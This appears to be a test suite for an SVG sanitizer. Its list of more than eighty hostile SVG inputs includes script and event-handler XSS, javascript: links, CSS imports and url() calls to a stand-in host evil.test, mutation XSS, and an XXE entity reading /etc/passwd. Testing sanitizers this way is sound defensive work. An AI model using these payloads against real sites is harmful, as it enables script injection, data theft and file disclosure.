import { JSDOM } from 'jsdom';
import { PictureFault } from '../../../src/images/picture-fault';
import { harmlessSvg } from '../../../src/images/svg';

const NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
const svg = (inside: string, attributes = ''): string => `<svg ${NS} ${attributes}>${inside}</svg>`;
const clean = (text: string | Buffer): string => harmlessSvg(Buffer.from(text as string)).toString('utf8');

/** Elements and attributes a drawing may have in the end; everything else is a failed test. */
const ELEMENTS = /^(svg|g|defs|path|rect|circle|ellipse|line|polyline|polygon|text|tspan|title|desc|style|linearGradient|radialGradient|stop|clipPath|mask|pattern|filter|feGaussianBlur|marker|symbol|textPath)$/;
const NAMES = /^(xmlns|xmlns:\w+|id|class|style|d|x|y|x1|y1|x2|y2|cx|cy|r|rx|ry|width|height|viewBox|fill|stroke|offset|points|transform|href|xlink:href|clip-path|mask|filter|font-family|stop-color|stdDeviation|version|opacity|tabindex)$/;

/** An independent judge of what comes out: by the parsers of both languages, as a browser may take it for either. */
function judge(drawing: string): void {
  const { window } = new JSDOM('');
  for (const type of ['image/svg+xml', 'text/html'] as const) {
    const document = new window.DOMParser().parseFromString(drawing, type);
    const root = type === 'text/html' ? document.body.firstElementChild! : document.documentElement;
    for (const element of [root, ...root.querySelectorAll('*')]) {
      expect(element.localName).toMatch(ELEMENTS);
      for (const { name, value } of element.attributes) {
        expect(name).toMatch(NAMES);
        if (/href$/i.test(name)) expect(value).toMatch(/^#[\w.-]+$/);
        if (!name.startsWith('xmlns')) expect(value).not.toMatch(/script:|data:|https?:|\/\//i);
        expect(value.replace(/url\(["']?#[\w.-]+["']?\)/g, '')).not.toMatch(/url\(|image\(|image-set\(|src\(|@import|\\|expression|binding/i);
      }
      if (element.localName === 'style') expect(element.textContent.replace(/url\(["']?#[\w.-]+["']?\)/g, '')).not.toMatch(/@|\\|url|image\(|image-set\(|src\(|<|expression|binding|behavior/i);
    }
    if (type === 'text/html') expect(document.body.children).toHaveLength(1);
  }
  expect(drawing).not.toMatch(/<!|<\?|<script|\son\w+=/i);
}

const X = 'https://evil.test/x';
const hostile: [string, string][] = [
  ['a script', svg('<script>alert(1)</script>')],
  ['a script with a type', svg('<script type="application/ecmascript">alert(1)</script>')],
  ['a script by reference', svg(`<script href="${X}.js"/>`)],
  ['a script by xlink', svg(`<script xlink:href="data:text/javascript,alert(1)"/>`)],
  ['a script in capitals', svg('<SCRIPT>alert(1)</SCRIPT>')],
  ['a script of the HTML namespace', svg('<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>')],
  ['a script with a prefix of SVG', svg('<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>')],
  ['a script in CDATA', svg('<style><![CDATA[</style><script>alert(1)</script>]]></style>')],
  ['a script in a title', svg('<title><script>alert(1)</script></title>')],
  ['a script in a description', svg('<desc><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="alert(1)"/></desc>')],
  ['onload of the root', svg('<rect/>', 'onload="alert(1)"')],
  ['onload in capitals', svg('<rect ONLOAD="alert(1)"/>')],
  ['onclick', svg('<rect onclick="alert(1)"/>')],
  ['onbegin', svg('<animate onbegin="alert(1)" attributeName="x" dur="1s"/>')],
  ['onmouseover with entities', svg('<rect onmouseover="&#97;lert(1)"/>')],
  ['onerror of an image', svg('<image href="x" onerror="alert(1)"/>')],
  ['onfocus', svg('<rect tabindex="0" autofocus="" onfocus="alert(1)"/>')],
  ['a link that runs', svg('<a href="javascript:alert(1)"><rect width="9" height="9"/></a>')],
  ['a link that runs, by xlink', svg('<a xlink:href="javascript:alert(1)"><rect/></a>')],
  ['a link that runs, written in entities', svg('<a href="&#106;avascript&#58;alert(1)"><rect/></a>')],
  ['a link that runs, with a tab', svg('<a href="java&#9;script:alert(1)"><rect/></a>')],
  ['a link that leads away', svg(`<a href="${X}" target="_top"><rect/></a>`)],
  ['use from elsewhere', svg(`<use href="${X}.svg#a"/>`)],
  ['use of data', svg('<use href="data:image/svg+xml;base64,PHN2Zy8+#a"/>')],
  ['use of itself without end', svg('<g id="a"><use href="#a"/><use href="#a"/></g>')],
  ['an image from elsewhere', svg(`<image href="${X}.png" width="1" height="1"/>`)],
  ['an image by xlink', svg(`<image xlink:href="//evil.test/x.png"/>`)],
  ['an image of data', svg('<image href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+"/>')],
  ['feImage', svg(`<filter id="f"><feImage href="${X}"/></filter>`)],
  ['foreignObject', svg('<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></body></foreignObject>')],
  ['foreignObject in lower case', svg('<foreignobject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignobject>')],
  ['an iframe', svg(`<iframe xmlns="http://www.w3.org/1999/xhtml" src="${X}"/>`)],
  ['an object', svg(`<object xmlns="http://www.w3.org/1999/xhtml" data="${X}"/>`)],
  ['an embed', svg(`<embed xmlns="http://www.w3.org/1999/xhtml" src="${X}"/>`)],
  ['a form', svg(`<form xmlns="http://www.w3.org/1999/xhtml" action="${X}"><input name="password"/></form>`)],
  ['a meta refresh', svg(`<meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=${X}"/>`)],
  ['a base', svg(`<base xmlns="http://www.w3.org/1999/xhtml" href="${X}"/>`)],
  ['a style sheet', svg(`<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="${X}"/>`)],
  ['audio and video', svg(`<audio xmlns="http://www.w3.org/1999/xhtml" src="${X}" onerror="alert(1)"/><video src="${X}"/>`)],
  ['an animated link', svg('<a><animate attributeName="href" values="javascript:alert(1)"/><text>click</text></a>')],
  ['a set link', svg('<a><set attributeName="xlink:href" to="javascript:alert(1)"/><rect/></a>')],
  ['an animation of an event handler', svg('<rect><set attributeName="onmouseover" to="alert(1)"/></rect>')],
  ['animateTransform', svg('<rect><animateTransform attributeName="transform" onend="alert(1)" dur="1s"/></rect>')],
  ['animateMotion by path', svg(`<rect><animateMotion><mpath href="${X}#p"/></animateMotion></rect>`)],
  ['a style that imports', svg(`<style>@import url("${X}.css");</style>`)],
  ['a style that imports without url', svg(`<style>@import "${X}.css";</style>`)],
  ['a style that imports by an escape', svg(`<style>@\\69mport "${X}.css";</style>`)],
  ['a style with a picture', svg(`<style>rect { fill: url(${X}) }</style><rect/>`)],
  ['a style with an escaped url', svg(`<style>rect { fill: u\\72l(${X}) }</style><rect/>`)],
  ['a style with a comment in it', svg(`<style>rect { fill: url/**/(${X}) }</style><rect/>`)],
  ['a style with a font', svg(`<style>@font-face { font-family: x; src: url(${X}) }</style>`)],
  ['a style with image-set', svg(`<style>rect { background: image-set("${X}" 1x) }</style>`)],
  ['a style that reads attributes', svg(`<style>rect[id^=a] { fill: url('${X}?a') }</style><rect id="a"/>`)],
  ['a style with an expression', svg('<style>rect { width: expression(alert(1)) }</style>')],
  ['a style with a binding', svg(`<style>rect { -moz-binding: url(${X}#x) }</style>`)],
  ['a style attribute with a url', svg(`<rect style="fill: url(${X})"/>`)],
  ['a style attribute with an escape', svg(`<rect style="fill: \\75rl(${X})"/>`)],
  ['a style attribute with a behavior', svg(`<rect style="behavior: url(${X})"/>`)],
  ['a fill from elsewhere', svg(`<rect fill="url(${X}#p)"/>`)],
  ['a fill from elsewhere in quotes', svg(`<rect fill="url( '${X}#p' )"/>`)],
  ['a filter from elsewhere', svg(`<rect filter="url(${X}#f)"/>`)],
  ['a mask from elsewhere', svg(`<rect mask="url(//evil.test/#m)"/>`)],
  ['a clip path from elsewhere', svg(`<rect clip-path="URL(${X}#c)"/>`)],
  ['a cursor', svg(`<rect style="cursor: url(${X}), auto"/><cursor id="c" xlink:href="${X}"/>`)],
  ['a gradient from elsewhere', svg(`<linearGradient id="g" href="${X}#g"/>`)],
  ['a gradient by xlink from elsewhere', svg(`<linearGradient id="g" xlink:href="${X}#g"/>`)],
  ['a text path from elsewhere', svg(`<text><textPath href="${X}#p">t</textPath></text>`)],
  ['xml:base', svg('<linearGradient id="g" href="#h"/>', 'xml:base="https://evil.test/"')],
  ['a handler element', svg('<handler type="application/ecmascript" xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>')],
  ['a listener element', svg('<ev:listener xmlns:ev="http://www.w3.org/2001/xml-events" event="click" handler="#x"/>')],
  ['MathML', svg('<math xmlns="http://www.w3.org/1998/Math/MathML"><maction actiontype="statusline#https://evil.test" xlink:href="javascript:alert(1)">c</maction></math>')],
  ['a mutation through mglyph', svg('<math><mtext><table><mglyph><style><![CDATA[</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">]]></style></mglyph></table></mtext></math>')],
  ['a mutation through noscript', svg('<noscript><p title="&lt;/noscript&gt;&lt;img src=x onerror=alert(1)&gt;"/></noscript>')],
  ['a template', svg('<template xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></template>')],
  ['an HTML element that ends the drawing', svg('<p xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/></p>')],
  ['a comment that is none', svg('<!--><script>alert(1)</script>--><rect/>')],
  ['ids that shadow the document', svg('<g id="body" name="cookie"/><g id="getElementById"/>')],
  ['data attributes', svg('<rect data-x="javascript:alert(1)" aria-label="https://evil.test"/>')],
  ['a metadata block', svg('<metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" rdf:about="https://evil.test"/></metadata>')],
  ['a nested drawing with a handler', svg(`<svg onload="alert(1)"><script>alert(2)</script></svg>`)],
  ['a processing instruction', `<?xml version="1.0"?><?xml-stylesheet href="${X}" type="text/css"?>${svg('')}`],
  ['a processing instruction inside', svg(`<?xml-stylesheet href="${X}"?>`)],
  ['an entity', `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<text>&x;</text>')}`],
  ['a billion laughs', `<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>${svg('<text>&b;</text>')}`],
  ['an external document type with a subset', `<!DOCTYPE svg SYSTEM "${X}.dtd" [<!ENTITY % p SYSTEM "${X}">%p;]>${svg('')}`],
  ['two document types', `<!DOCTYPE svg><!DOCTYPE svg [<!ENTITY a "b">]>${svg('')}`],
];

test('there are enough of them', () => {
  expect(hostile.length).toBeGreaterThanOrEqual(60);
  expect(new Set(hostile.map(([name]) => name)).size).toBe(hostile.length);
});

test.each(hostile)('nothing is left of %s', (_name, text) => {
  let drawing: string;
  try {
    drawing = clean(text);
  } catch (error) {
    if (error instanceof PictureFault) return;
    throw error;
  }
  judge(drawing);
});

test('the judge knows a hostile drawing', () => {
  const seen = hostile.filter(([, text]) => {
    try {
      judge(text);
      return false;
    } catch {
      return true;
    }
  });
  expect(hostile.filter((each) => !seen.includes(each)).map(([name]) => name)).toEqual([]);
});

test.each([
  ['nothing', ''],
  ['text', 'hello'],
  ['HTML', '<!DOCTYPE html><html><body><svg></svg></body></html>'],
  ['HTML without a type', '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>'],
  ['two drawings', svg('') + svg('')],
  ['a drawing and text behind it', `${svg('')}<script>alert(1)</script>`],
  ['a drawing that is not closed', `<svg ${NS}><g>`],
  ['a drawing that is not well-formed', svg('<g></rect>')],
  ['a drawing without a namespace', '<svg><rect/></svg>'],
  ['a drawing of another namespace', '<svg xmlns="http://www.w3.org/1999/xhtml"/>'],
  ['a drawing with a prefix', '<s:svg xmlns:s="http://www.w3.org/2000/svg"/>'],
  ['another root', `<g ${NS}/>`],
  ['more parts than a logo has', svg('<g/>'.repeat(2_001))],
  ['more attributes than a part has', svg(`<rect ${Array.from({ length: 101 }, (_, index) => `a${index}=""`).join(' ')}/>`)],
  ['more attributes than a logo has in all its parts', svg(`<rect ${Array.from({ length: 90 }, (_, index) => `a${index}=""`).join(' ')}/>`.repeat(250))],
])('%s is refused', (_name, text) => {
  expect(() => clean(text)).toThrow(PictureFault);
});

test('parts as deep within parts as there may be break nothing', () => judge(clean(svg('<g>'.repeat(990) + '</g>'.repeat(990)))));

test.each([['UTF-16', Buffer.from(`\ufeff${svg('')}`, 'utf16le')], ['no UTF-8', Buffer.from([0x3c, 0x73, 0xff, 0xfe])], ['zeros', Buffer.alloc(10)]])(
  '%s is refused', (_name, bytes) => {
    expect(() => harmlessSvg(bytes)).toThrow(PictureFault);
  });

test('a drawing stays what it is, to the letter of its case', () => {
  const inside = '<defs><linearGradient id="g" x1="0"><stop offset="0" stop-color="red"/></linearGradient>'
    + '<linearGradient id="h" xlink:href="#g"/><clipPath id="c"><circle cx="1" cy="2" r="3"/></clipPath><filter id="f"><feGaussianBlur stdDeviation="2"/></filter></defs>'
    + '<style>.a { fill: url(#g); stroke: #123 }</style><g class="a" clip-path="url(#c)" filter="url(#f)" transform="translate(1 2)"><path d="M0 0 L10 10z"/></g>'
    + '<text x="1" y="2" font-family="serif">한국어 &amp; Ёлка</text>';
  const drawing = clean(`<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n${svg(inside, 'viewBox="0 0 10 10" width="10"')}`);
  judge(drawing);
  for (const part of ['viewBox="0 0 10 10"', '<linearGradient id="g"', 'xlink:href="#g"', 'clip-path="url(#c)"', '<feGaussianBlur stdDeviation="2"/>', 'fill: url(#g)', 'M0 0 L10 10z', '한국어 &amp; Ёлка']) {
    expect(drawing).toContain(part);
  }
  expect(clean(drawing)).toBe(drawing);
});
